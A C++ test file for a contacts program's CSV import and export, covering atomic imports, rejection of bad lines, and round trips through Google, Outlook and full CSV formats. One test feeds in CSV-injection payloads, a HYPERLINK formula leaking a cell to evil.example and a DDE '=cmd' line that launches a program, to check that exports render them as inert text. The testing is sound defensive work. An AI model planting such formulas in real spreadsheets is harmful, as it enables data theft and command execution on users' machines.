// rolvane import FILE.csv and export --format google-csv, outlook-csv, csv --every-value, end to
// end through the program: one change set per import, a bad line refused with nothing stored,
// cells a spreadsheet would run as formulas written as text, and round trips of the shared corpus
// and of a generated book back into an empty store giving every value each format can hold.
#include <gtest/gtest.h>
#include <unistd.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <map>
#include <set>
#include <sstream>

#include "app/csv/CsvImport.h"
#include "core/record/ContactRecord.h"
#include "platform/addressbook/ABAddressBook.h"
#include "platform/addressbook/ABConstants.h"
#include "tests/support/ProgramRun.h"
#include "tests/support/TestPaths.h"

namespace {

class CsvCommandTest : public ::testing::Test {
 protected:
  void SetUp() override {
    folder_ =
        std::filesystem::temp_directory_path() /
        ("rolvane-csv-" + std::to_string(getpid()) + ::testing::UnitTest::GetInstance()->current_test_info()->name());
    std::filesystem::remove_all(folder_);
    std::filesystem::create_directories(folder_);
  }
  void TearDown() override { std::filesystem::remove_all(folder_); }

  ProgramRun rolvane(const std::string& store, std::vector<std::string> args) {
    args.insert(args.begin(), {"--store", store});
    return runProgram(ROLVANE_PROGRAM, args);
  }
  std::string store(const std::string& name) { return (folder_ / (name + ".sqlite")).string(); }
  std::string write(const std::string& name, const std::string& text) {
    const auto path = folder_ / name;
    std::ofstream(path, std::ios::binary) << text;
    return path.string();
  }
  // Exports the store and gives the file written.
  std::string exportStore(const std::string& storePath, std::vector<std::string> args) {
    const auto out = folder_ / ("out-" + std::to_string(exports_++));
    std::filesystem::create_directories(out);
    args.insert(args.begin(), {"export", "--to", out.string()});
    ProgramRun run = rolvane(storePath, args);
    EXPECT_EQ(run.status, 0) << run.out;
    std::string file = run.out.substr(0, run.out.find('\n'));
    return file;
  }
  static std::string bytesOf(const std::string& path) {
    std::ifstream in(path, std::ios::binary);
    std::ostringstream text;
    text << in.rdbuf();
    return text.str();
  }
  static std::vector<ABPersonData> personsOf(const std::string& storePath) {
    std::vector<ABPersonData> persons;
    std::string error;
    EXPECT_TRUE(ABAddressBook::readPersons(
        storePath, [&](std::vector<ABPersonData>& batch) { persons.insert(persons.end(), batch.begin(), batch.end()); },
        &error))
        << error;
    return persons;
  }
  static size_t changeSets(const std::string& storePath) {
    auto book = ABAddressBook::open(storePath);
    std::vector<ABChangeSet> history;
    if (!book || !book->changeHistory(history)) return 0;
    return history.size();
  }

  std::filesystem::path folder_;
  int exports_ = 0;
};

// --- what each format can hold, worked out from the persons on their own -------------------------

using Values = std::multiset<std::string>;

std::string trim(std::string text) {
  const auto first = text.find_first_not_of(" \t");
  if (first == std::string::npos) return {};
  return text.substr(first, text.find_last_not_of(" \t") - first + 1);
}

bool isHomeOrWork(const std::string& label) {
  return label == kABHomeLabel || label == kABWorkLabel;
}

enum class Format { EveryValue, Google, Outlook };

// The values of a person that the format holds, each as "kind|label|value".
Values heldValues(const ABPersonData& person, Format format) {
  Values values;
  // Labels as a user reads them: "_$!<Spouse>!$_" and "Spouse" are one label.
  auto add = [&](const std::string& kind, std::string label, std::string value) {
    if (format == Format::Google) value = trim(value);
    if (label.size() > 8 && label.rfind("_$!<", 0) == 0) label = label.substr(4, label.size() - 8);
    for (char& c : label) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
    if (!value.empty()) values.insert(kind + "|" + label + "|" + value);
  };
  std::vector<std::pair<const std::string*, bool>> singles = {
      {&kABFirstNameProperty, true},
      {&kABLastNameProperty, true},
      {&kABMiddleNameProperty, true},
      {&kABTitleProperty, true},
      {&kABSuffixProperty, true},
      {&kABOrganizationProperty, true},
      {&kABDepartmentProperty, true},
      {&kABJobTitleProperty, true},
      {&kABNoteProperty, true},
      {&kABNicknameProperty, format != Format::Outlook},
      {&kABFirstNamePhoneticProperty, format != Format::Outlook},
      {&kABLastNamePhoneticProperty, format != Format::Outlook},
      {&kABMaidenNameProperty, format == Format::EveryValue}};
  for (auto [property, held] : singles)
    if (const std::string* text = person.string(*property); text && held) add(*property, "", *text);
  if (const ABDate* birthday = person.date(kABBirthdayProperty))
    if (format != Format::Outlook || birthday->year != ContactRecord::kYearNotKnown)
      add("Birthday", "", birthday->toIsoString());

  std::map<std::string, int> taken;  // Outlook's columns of a kind taken so far
  auto outlookTakes = [&](const std::string& column, int limit) { return ++taken[column] <= limit; };
  if (const ABMultiValue* emails = person.multiValue(kABEmailProperty)) {
    for (const auto& entry : emails->entries()) {
      const std::string& value = std::get<std::string>(entry.value);
      if (format == Format::Outlook) {
        if (outlookTakes("email", 3)) add("Email", "", value);
      } else {
        add("Email", format == Format::Google || isHomeOrWork(entry.label) ? entry.label : kABOtherLabel, value);
      }
    }
  }
  if (const ABMultiValue* phones = person.multiValue(kABPhoneProperty)) {
    for (const auto& entry : phones->entries()) {
      const std::string& value = std::get<std::string>(entry.value);
      if (format != Format::Outlook) {
        add("Phone", entry.label, value);
        continue;
      }
      const std::map<std::string, int> limits = {
          {kABWorkLabel, 2},         {kABHomeLabel, 2},       {kABPhoneMobileLabel, 1}, {kABPhoneHomeFAXLabel, 1},
          {kABPhoneWorkFAXLabel, 1}, {kABPhonePagerLabel, 1}, {kABPhoneMainLabel, 1},   {"Car", 1}};
      auto limit = limits.find(entry.label);
      if ((limit != limits.end() && outlookTakes(entry.label, limit->second)) || outlookTakes("other phone", 1))
        add("Phone", "", value);
    }
  }
  if (const ABMultiValue* addresses = person.multiValue(kABAddressProperty)) {
    std::set<std::string> groups;
    for (const auto& entry : addresses->entries()) {
      const auto& address = std::get<ABDictionary>(entry.value);
      const std::string group = isHomeOrWork(entry.label) ? entry.label : kABOtherLabel;
      if (format == Format::Outlook && !groups.insert(group).second) continue;
      const std::string label = format == Format::Google ? entry.label : group;
      for (const auto& [key, part] : address.entries()) {
        // Outlook has no column for the extended address: it is the first line of the street there.
        if (format == Format::Outlook && key == kABAddressExtendedKey) continue;
        if (key != kABAddressCountryCodeKey || format == Format::EveryValue) add("Address " + key, label, part);
      }
    }
  }
  for (const std::string* property : {&kABURLsProperty, &kABRelatedNamesProperty}) {
    const ABMultiValue* list = person.multiValue(*property);
    if (!list) continue;
    for (const auto& entry : list->entries()) {
      const std::string& value = std::get<std::string>(entry.value);
      if (format != Format::Outlook) {
        add(*property, entry.label, value);
      } else if (property == &kABURLsProperty) {
        if (outlookTakes("url", 1)) add(*property, "", value);
      } else {
        for (const std::string* label : {&kABSpouseLabel, &kABChildLabel, &kABManagerLabel, &kABAssistantLabel})
          if (entry.label == *label && outlookTakes(*label, 1)) add(*property, *label, value);
      }
    }
  }
  if (const ABMultiValue* accounts = person.multiValue(kABInstantMessageProperty);
      accounts && format != Format::Outlook)
    for (const auto& entry : accounts->entries()) {
      const auto& account = std::get<ABDictionary>(entry.value);
      const std::string service = account.valueOr(kABInstantMessageServiceKey);
      add("IM " + service, format == Format::Google || isHomeOrWork(entry.label) ? entry.label : kABOtherLabel,
          account.valueOr(kABInstantMessageUsernameKey));
    }
  if (const ABMultiValue* profiles = person.multiValue(kABSocialProfileProperty);
      profiles && format == Format::EveryValue)
    for (const auto& entry : profiles->entries()) {
      const auto& profile = std::get<ABDictionary>(entry.value);
      add("Social " + profile.valueOr(kABSocialProfileServiceKey), entry.label,
          profile.valueOr(kABSocialProfileUsernameKey));
    }
  for (const auto& category : keptCategories(person)) add("Category", "", category);
  if (format == Format::EveryValue) {
    if (const ABBytes* photo = person.bytes(kABImageDataProperty))
      add("Photo", "", std::string(photo->begin(), photo->end()));
    if (const std::string* kept = person.string(kABVCardKeptLinesProperty)) {
      std::istringstream lines(*kept);
      for (std::string line; std::getline(lines, line);)
        if (line.rfind("CATEGORIES", 0) != 0) add("Kept", "", line);
    }
    if (const std::string* asRead = person.string(kABVCardLinesAsReadProperty)) add("AsRead", "", *asRead);
  } else {
    for (const auto& [heading, value] : keptCsvFields(person)) add("Extra " + heading, "", value);
  }
  return values;
}

// What of each person's values the format should hold is back, contact by contact in order.
void expectHeld(const std::vector<ABPersonData>& before, const std::vector<ABPersonData>& after, Format format,
                const std::string& what) {
  ASSERT_EQ(before.size(), after.size()) << what;
  size_t values = 0;
  for (size_t i = 0; i < before.size(); ++i) {
    const Values expected = heldValues(before[i], format);
    const Values got = heldValues(after[i], format);
    values += expected.size();
    std::vector<std::string> missing;
    std::set_difference(expected.begin(), expected.end(), got.begin(), got.end(), std::back_inserter(missing));
    EXPECT_TRUE(missing.empty()) << what << ": contact " << i << " lost " << missing.size() << " values, first "
                                 << (missing.empty() ? "" : missing.front());
  }
  EXPECT_GT(values, before.size()) << what;
}

// A generated book: many values of every kind, several of one key, labels of every kind, names a
// spreadsheet would take for formulas, line breaks, quotes, commas and text of every script.
std::string generatedBook(int count) {
  static const char* words[] = {"Ann",    "Zoë", "Łukasz", "東京都",      "Владимир", "O'Brien",
                                "=1+2",   "-x",  "a,b",    "say \"hi\"",  "@home",    "+cmd",
                                "Straße", "😀",   "李小龍", "van der Berg"};
  std::string out;
  auto word = [&](int i) { return std::string(words[i % 16]); };
  auto esc = [](std::string text) {
    std::string escaped;
    for (char c : text) {
      if (c == ',' || c == ';' || c == '\\') escaped += '\\';
      escaped += c;
    }
    return escaped;
  };
  for (int i = 0; i < count; ++i) {
    out += "BEGIN:VCARD\r\nVERSION:3.0\r\n";
    if (i % 9 == 8) {
      out += "N:;;;;\r\nFN:" + esc(word(i)) + " Corp\r\nORG:" + esc(word(i)) + " Corp\r\nX-ABShowAs:COMPANY\r\n";
    } else {
      out += "N:" + esc(word(i + 1)) + std::to_string(i) + ";" + esc(word(i)) + ";" + (i % 3 ? "Q" : "") + ";" +
             (i % 4 ? "" : "Dr.") + ";" + (i % 5 ? "" : "Jr.") + "\r\n";
      out += "ORG:" + esc(word(i + 3)) + ";Sales\r\nTITLE:Boss " + std::to_string(i) + "\r\n";
    }
    out += "NICKNAME:" + esc(word(i + 5)) + "\r\n";
    out += "NOTE:Line one\\nline \"two\"\\, three " + esc(word(i + 7)) + "\r\n";
    out += i % 2 ? "BDAY:1980-03-" + std::to_string(10 + i % 18) + "\r\n" : "BDAY:--12-24\r\n";
    for (int e = 0; e < 1 + i % 5; ++e) {
      static const char* types[] = {"HOME", "WORK", "INTERNET", "HOME", "WORK"};
      out += std::string("EMAIL;TYPE=") + types[e] + ":p" + std::to_string(i) + "." + std::to_string(e) +
             "@example.org\r\n";
    }
    static const char* phoneTypes[] = {"CELL",  "WORK", "HOME", "WORK,FAX", "HOME,FAX",
                                       "PAGER", "MAIN", "WORK", "VOICE"};
    for (int p = 0; p < 1 + i % 9; ++p)
      out += std::string("TEL;TYPE=") + phoneTypes[p] + ":+49 30 " + std::to_string(100000 + i * 10 + p) + "\r\n";
    if (i % 3 == 0) out += "item1.TEL:-" + std::to_string(i) + "\r\nitem1.X-ABLabel:Car\r\n";
    out += "ADR;TYPE=HOME:;;" + esc(word(i)) + "str. " + std::to_string(i) + "\\nHof 2;Berlin;BE;10115;Germany\r\n";
    if (i % 2) out += "ADR;TYPE=WORK:;;1 Main St;Springfield;;12345;USA\r\n";
    if (i % 4 == 1) out += "ADR;TYPE=HOME:;;Second home;Hamburg;;;\r\n";
    out += "URL:https://example.org/" + std::to_string(i) + "\r\n";
    if (i % 2) out += "item2.X-ABRELATEDNAMES:" + esc(word(i + 2)) + "\r\nitem2.X-ABLabel:_$!<Spouse>!$_\r\n";
    if (i % 3 == 1) out += "X-SKYPE;TYPE=WORK:skype" + std::to_string(i) + "\r\n";
    if (i % 4 == 2) out += "CATEGORIES:Golf,Friends\r\n";
    out += "END:VCARD\r\n";
  }
  return out;
}

}  // namespace

TEST_F(CsvCommandTest, ImportsAFileAsOneChangeSetAndABadLineChangesNothing) {
  const std::string book = store("book");
  const std::string google = write("contacts.csv",
                                   "First Name,Last Name,Labels,E-mail 1 - Label,E-mail 1 - Value,Shoe Size\n"
                                   "Ann,Lee,* myContacts,Home,ann@example.org,38\n"
                                   "Bo,Ng,* myContacts,Work,bo@example.org ::: bo2@example.org,44\n");
  ProgramRun run = rolvane(book, {"import", google});
  ASSERT_EQ(run.status, 0) << run.out;
  EXPECT_NE(run.out.find("Imported 2 contacts from " + google + " (google CSV, UTF-8, commas)"), std::string::npos)
      << run.out;
  EXPECT_EQ(changeSets(book), 1u);
  auto persons = personsOf(book);
  ASSERT_EQ(persons.size(), 2u);
  EXPECT_EQ(persons[1].multiValue(kABEmailProperty)->count(), 2u);
  EXPECT_EQ(keptCsvFields(persons[1]), (std::vector<std::pair<std::string, std::string>>{{"Shoe Size", "44"}}));
  // The extra field goes out in the vCard export as an X- line.
  const std::string card = bytesOf(exportStore(book, {"--format", "vcard", "--all-info", "--one-file"}));
  EXPECT_NE(card.find("X-SHOE-SIZE;X-CSV-HEADING=\"Shoe Size\":44"), std::string::npos) << card;

  const std::string bad = write("bad.csv", "First Name,Note\nCy,fine\nDi,\"never closed\nEd,x\n");
  run = rolvane(book, {"import", bad});
  EXPECT_EQ(run.status, 1);
  EXPECT_EQ(run.out, "rolvane import: " + bad + ":3: a quoted field is not closed\n");
  EXPECT_EQ(personsOf(book).size(), 2u);
  EXPECT_EQ(changeSets(book), 1u);
  const std::string fresh = store("fresh");
  EXPECT_EQ(rolvane(fresh, {"import", bad}).status, 1);
  EXPECT_FALSE(std::filesystem::exists(fresh));

  // --map and --profile.
  const std::string own = write("own.tsv", "Vorname\tMail\nEva\teva@example.org\n");
  run = rolvane(book, {"import", "--profile", "outlook", "--map", "Mail=Work Email", own});
  ASSERT_EQ(run.status, 0) << run.out;
  persons = personsOf(book);
  ASSERT_EQ(persons.size(), 3u);
  EXPECT_EQ(*persons[2].string(kABFirstNameProperty), "Eva");
  EXPECT_EQ(persons[2].multiValue(kABEmailProperty)->labelAtIndex(0), kABWorkLabel);
  EXPECT_EQ(rolvane(book, {"import", "--map", "Mail=Nowhere", own}).status, 1);
  EXPECT_EQ(personsOf(book).size(), 3u);
}

// A cell a spreadsheet would run as a formula is written as text (an apostrophe in front), phone
// numbers and "-" as they are; --raw writes today's bytes; import takes the apostrophe off again.
TEST_F(CsvCommandTest, CellsThatWouldRunAsFormulasAreWrittenAsText) {
  const std::string book = store("book");
  const std::string cards =
      write("cards.vcf",
            "BEGIN:VCARD\r\nVERSION:3.0\r\nN:Lee;=HYPERLINK(\"http://evil.example/\"&A1\\,\"click\");;;\r\n"
            "NICKNAME:-\r\nNOTE:=cmd|' /C calc'!A0\r\nTEL;TYPE=HOME:+49 30 1234567\r\nTEL;TYPE=WORK:-2+3\r\n"
            "ORG:@SUM(1+1)\r\nTITLE:'=already quoted\r\nEND:VCARD\r\n");
  ASSERT_EQ(rolvane(book, {"import", cards}).status, 0);
  const std::string csv = bytesOf(exportStore(book, {"--format", "csv", "--all-info"}));
  EXPECT_NE(csv.find("\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"click\"\")\""), std::string::npos) << csv;
  EXPECT_NE(csv.find(",'=cmd|' /C calc'!A0,"), std::string::npos) << csv;
  EXPECT_NE(csv.find(",+49 30 1234567,"), std::string::npos) << csv;
  EXPECT_NE(csv.find(",'-2+3,"), std::string::npos) << csv;
  EXPECT_NE(csv.find(",'@SUM(1+1),"), std::string::npos) << csv;
  EXPECT_NE(csv.find(",-,"), std::string::npos) << csv;
  EXPECT_NE(csv.find(",''=already quoted,"), std::string::npos) << csv;
  const std::string raw = bytesOf(exportStore(book, {"--format", "csv", "--all-info", "--raw"}));
  EXPECT_NE(raw.find("\"=HYPERLINK("), std::string::npos) << raw;
  EXPECT_EQ(raw.find("'=HYPERLINK"), std::string::npos) << raw;
  EXPECT_EQ(raw.find("'=cmd"), std::string::npos) << raw;

  // LibreOffice, as a user opens the file: no cell of the export is a formula.
  if (access("/usr/bin/soffice", X_OK) == 0) {
    for (const auto& [name, bytes] : {std::pair{"guarded.csv", csv}, {"raw.csv", raw}}) {
      const std::string path = write(name, bytes);
      const std::string home = (folder_ / "lo").string();
      runProgram("/usr/bin/env",
                 {"HOME=" + home, "/usr/bin/soffice", "-env:UserInstallation=file://" + home + "/profile", "--headless",
                  "--infilter=CSV:44,34,76,1", "--convert-to", "fods", "--outdir", folder_.string(), path});
      const std::string sheet = bytesOf((folder_ / (std::filesystem::path(name).stem().string() + ".fods")).string());
      ASSERT_FALSE(sheet.empty()) << "LibreOffice did not convert " << name;
      if (std::string(name) == "guarded.csv")
        EXPECT_EQ(sheet.find("table:formula="), std::string::npos) << "a live formula in the export";
      else
        EXPECT_NE(sheet.find("table:formula=\"of:=HYPERLINK"), std::string::npos) << "--raw keeps the bytes";
    }
  }

  // Rolvane's own import gives back the values as they were.
  const std::string back = store("back");
  ASSERT_EQ(rolvane(back, {"import", write("export.csv", csv)}).status, 0);
  auto persons = personsOf(back);
  ASSERT_EQ(persons.size(), 1u);
  EXPECT_EQ(*persons[0].string(kABFirstNameProperty), "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")");
  EXPECT_EQ(*persons[0].string(kABNoteProperty), "=cmd|' /C calc'!A0");
  EXPECT_EQ(*persons[0].string(kABJobTitleProperty), "'=already quoted");
  EXPECT_EQ(*persons[0].string(kABOrganizationProperty), "@SUM(1+1)");
}

// A contact without first or last name is named as the window names it in every export.
TEST_F(CsvCommandTest, NoExportWritesNull) {
  const std::string book = store("book");
  ASSERT_EQ(rolvane(book, {"import", write("cards.vcf",
                                           "BEGIN:VCARD\r\nVERSION:3.0\r\nN:Lee;;;;\r\nEND:VCARD\r\n"
                                           "BEGIN:VCARD\r\nVERSION:3.0\r\nN:;;;;\r\nFN:Acme\r\nORG:Acme\r\n"
                                           "X-ABShowAs:COMPANY\r\nEND:VCARD\r\n")})
                .status,
            0);
  for (const std::vector<std::string>& format :
       std::vector<std::vector<std::string>>{{"--format", "csv", "--all-info"},
                                             {"--format", "csv", "--every-value"},
                                             {"--format", "txt", "--all-info"},
                                             {"--format", "html", "--all-info"}}) {
    std::string file = exportStore(book, format);
    if (std::filesystem::is_directory(file)) file = (std::filesystem::path(file) / "index.html").string();
    const std::string text = bytesOf(file);
    EXPECT_EQ(text.find("(null)"), std::string::npos) << format[1] << ": " << text;
  }
}

TEST_F(CsvCommandTest, RoundTripsGiveBackEveryValueEachFormatHolds) {
  std::vector<std::pair<std::string, std::vector<std::string>>> books;
  books.push_back({"generated", {write("generated.vcf", generatedBook(120))}});
  const std::filesystem::path corpus = std::filesystem::path(ROLVANE_CORPUS_DIR) / "vcard";
  if (std::filesystem::is_directory(corpus)) {
    std::vector<std::string> files;
    for (const auto& entry : std::filesystem::directory_iterator(corpus))
      if (entry.path().extension() == ".vcf") files.push_back(entry.path().string());
    std::sort(files.begin(), files.end());
    books.push_back({"corpus", files});
  } else {
    std::cout << "corpus round trip skipped: " << corpus << " is absent\n";
  }
  for (const auto& [name, files] : books) {
    const std::string source = store(name);
    std::vector<std::string> args = {"import"};
    args.insert(args.end(), files.begin(), files.end());
    ProgramRun run = rolvane(source, args);
    ASSERT_EQ(run.status, 0) << run.out;
    const auto before = personsOf(source);
    for (const auto& [format, exportArgs] :
         {std::pair{Format::EveryValue, std::vector<std::string>{"--format", "csv", "--every-value"}},
          {Format::Google, {"--format", "google-csv"}},
          {Format::Outlook, {"--format", "outlook-csv"}}}) {
      const std::string file = exportStore(source, exportArgs);
      const std::string bytes = bytesOf(file);
      if (format == Format::Outlook) {
        // Outlook's headings in its order, UTF-8 with its byte order mark, CRLF.
        EXPECT_EQ(bytes.rfind("\xEF\xBB\xBFTitle,First Name,Middle Name,Last Name,Suffix,Company,Department,Job Title,"
                              "Business Street,Business Street 2,Business Street 3,Business City,",
                              0),
                  0u);
        EXPECT_NE(bytes.find(",E-mail 3 Address,E-mail 3 Type,E-mail 3 Display Name,Gender,"), std::string::npos);
        if (name == "generated") {
          EXPECT_NE(bytes.find(",3/11/1980,"), std::string::npos);
        }
        EXPECT_NE(bytes.find("\r\n"), std::string::npos);
      } else if (format == Format::Google && name == "generated") {
        // The fifth e-mail of a contact in the fifth numbered group.
        EXPECT_EQ(bytes.rfind("First Name,Middle Name,Last Name,Phonetic First Name,Phonetic Middle Name,", 0), 0u);
        EXPECT_NE(bytes.find(",E-mail 5 - Label,E-mail 5 - Value,Phone 1 - Label,"), std::string::npos);
        EXPECT_NE(bytes.find(",--12-24,"), std::string::npos);
        EXPECT_NE(bytes.find(",* myContacts,"), std::string::npos);
        EXPECT_NE(bytes.find(",Golf ::: Friends,"), std::string::npos);
      }
      const std::string back = store(name + "-" + exportArgs[1] + std::to_string(exportArgs.size()));
      run = rolvane(back, {"import", file});
      ASSERT_EQ(run.status, 0) << run.out;
      expectHeld(before, personsOf(back), format, name + " through " + exportArgs[1]);
    }
  }
}
